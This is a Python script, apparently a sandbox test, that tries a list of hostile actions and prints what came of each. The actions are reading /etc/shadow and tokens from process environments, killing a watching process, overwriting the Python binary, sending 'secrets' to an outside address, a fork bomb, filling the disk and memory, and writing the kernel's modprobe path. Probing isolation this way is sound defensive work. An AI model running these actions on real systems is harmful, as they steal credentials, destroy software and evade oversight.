# SPDX-License-Identifier: Apache-2.0
"""What code from a stranger may try. It says what came of it."""
import os
import socket
import sys


def attempt(what, function):
    try:
        came = function()
    except OSError as e:
        came = e.strerror
    print(f"{what:42} {came}", flush=True)


def connect(address, port):
    with socket.create_connection((address, port), 5) as s:
        s.send(b"secrets")
    return "sent"


def fork_bomb():
    """Each child stays; they end with the pipe."""
    end, hold = os.pipe()
    children = 0
    try:
        while True:
            if os.fork() == 0:
                os.close(hold)
                os.read(end, 1)
                os._exit(0)
            children += 1
    except OSError as e:
        why = e.strerror
    os.close(hold)
    for _ in range(children):
        os.wait()
    return f"{children} children, then: {why}"


def eat_memory():
    """In a child, to see what becomes of it."""
    child = os.fork()
    if child == 0:
        import mmap
        while True:
            piece = mmap.mmap(-1, 16 << 20)
            for at in range(0, len(piece), 4096):
                piece[at] = 1
            kept.append(piece)
    signal = os.waitstatus_to_exitcode(os.wait()[1])
    return f"ended by signal {-signal}"


def fill_disk():
    with open("/tmp/full", "wb", buffering=0) as f:
        try:
            while True:
                f.write(bytes(1 << 20))
        except OSError as e:
            return f"{f.tell() >> 20} MiB, then: {e.strerror}"


def environments():
    """Of all processes that it sees."""
    found = b""
    for name in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{name}/environ", "rb") as f:
                found += f.read()
        except OSError:
            pass
    return b"TOKEN=" in found


kept = []
attempt("read the host's passwords", lambda: open("/etc/shadow").read())
attempt("read the caller's files", lambda: open(sys.argv[1]).read())
attempt("find the caller's TOKEN", lambda: os.environ.get("TOKEN"))
attempt("... in any process's environment", environments)
attempt("kill who watches", lambda: os.kill(int(sys.argv[2]), 9))
attempt("replace a program", lambda: open("/usr/bin/python3", "wb"))
attempt("phone home", lambda: connect("192.0.2.1", 443))
attempt("reach the host's own services", lambda: connect("127.0.0.1", int(sys.argv[3])))
attempt("start processes without end", fork_bomb)
attempt("fill the disk", fill_disk)
attempt("take all memory", eat_memory)
attempt("see the machine's memory as a file", lambda: open("/dev/mem", "rb").read(1))
attempt("load a module into the kernel", lambda: open("/proc/sys/kernel/modprobe", "w").write("/tmp/x"))
